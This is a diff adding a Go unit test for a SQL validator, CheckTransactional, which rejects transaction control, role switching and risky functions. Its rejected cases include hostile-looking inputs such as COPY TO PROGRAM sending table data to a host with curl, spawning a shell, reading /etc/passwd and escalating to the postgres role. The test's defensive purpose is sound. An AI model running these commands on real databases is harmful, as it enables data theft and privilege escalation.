@@ -0,0 +1,69 @@
+package database
+
+import "testing"
+
+func TestCheckTransactional(t *testing.T) {
+	tests := []struct {
+		script string
+		valid  bool
+	}{
+		{"CREATE TABLE t (id int); INSERT INTO t VALUES (1)", true},
+		{"UPDATE posts SET title = 'x' WHERE id = 1", true},
+		{"SET LOCAL search_path = app", true},
+		{"SET LOCAL ROLE authenticated; SELECT 1", true},
+		{"SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", true},
+		{"SET CONSTRAINTS ALL DEFERRED", true},
+		{"SELECT 'commit; set role postgres'", true},
+		{"DO $$ BEGIN UPDATE posts SET title = 'x'; END $$", true},
+		{"DO $$ BEGIN SET LOCAL search_path = app; PERFORM 1; END $$", true},
+		{"DO LANGUAGE plpgsql $body$ DECLARE n int; BEGIN IF n > 0 THEN RAISE NOTICE 'commit'; END IF; END $body$", true},
+		{"BEGIN; CREATE TABLE t (id int)", false},
+		{"CREATE TABLE t (id int); COMMIT", false},
+		{"start transaction", false},
+		{"ROLLBACK", false},
+		{"END", false},
+		{"PREPARE TRANSACTION 'x'", false},
+		{"SET ROLE postgres", false},
+		{"SET search_path = public, extensions", false},
+		{"set session authorization postgres", false},
+		{"SET SESSION statement_timeout = 0", false},
+		{"RESET ROLE", false},
+		{"RESET ALL", false},
+		{"DO $$ BEGIN COMMIT; END $$", false},
+		{"DO $$ BEGIN INSERT INTO t VALUES (1); ROLLBACK; END $$", false},
+		{"DO $x$ BEGIN IF true THEN COMMIT; END IF; END $x$", false},
+		{"DO $$ BEGIN SET search_path = app; END $$", false},
+		{"DO $$ BEGIN LOOP RESET ROLE; EXIT; END LOOP; END $$", false},
+		{"DO 'BEGIN COMMIT; END'", false},
+		{"DO 'BEGIN SET role = ''postgres''; END'", false},
+		{"", false},
+		{"SELECT pg_terminate_backend(1234)", false},
+		{"INSERT INTO ids SELECT nextval('ids_seq')", false},
+		{"SELECT setval('ids_seq', 1)", false},
+		{`SELECT "dblink_exec"('host=other', 'DROP TABLE t')`, false},
+		{"SELECT lo_export(1234, '/tmp/x')", false},
+		{"SELECT pg_catalog.pg_sleep(1)", false},
+		{"COPY posts TO PROGRAM 'curl -d @- http://example.com'", false},
+		{"COPY (SELECT 1) TO program 'sh'", false},
+		{"COPY posts FROM '/etc/passwd'", false},
+		{"COPY posts TO '/tmp/posts.csv' WITH (FORMAT csv)", false},
+		{"DO $$ BEGIN PERFORM nextval('ids_seq'); END $$", false},
+		{"DO $$ BEGIN PERFORM pg_terminate_backend(1); END $$", false},
+		{"CREATE FUNCTION next_id() RETURNS bigint LANGUAGE sql AS $$ SELECT nextval('ids_seq') $$", true},
+		{"CREATE SEQUENCE ids_seq; CREATE TABLE ids (id bigint DEFAULT nextval('ids_seq'))", true},
+		{"CREATE TABLE ids AS SELECT nextval('ids_seq') AS id", false},
+		{"CREATE OR REPLACE VIEW next_ids AS SELECT nextval('ids_seq')", true},
+		{"ALTER TABLE posts ADD COLUMN n bigint DEFAULT nextval('ids_seq')", false},
+		{"INSERT INTO posts (title) VALUES ('nextval(1)')", true},
+	}
+
+	for _, tt := range tests {
+		err := CheckTransactional(tt.script)
+		if tt.valid && err != nil {
+			t.Errorf("CheckTransactional(%q) = %v, want nil", tt.script, err)
+		}
+		if !tt.valid && err == nil {
+			t.Errorf("CheckTransactional(%q) = nil, want an error", tt.script)
+		}
+	}
+}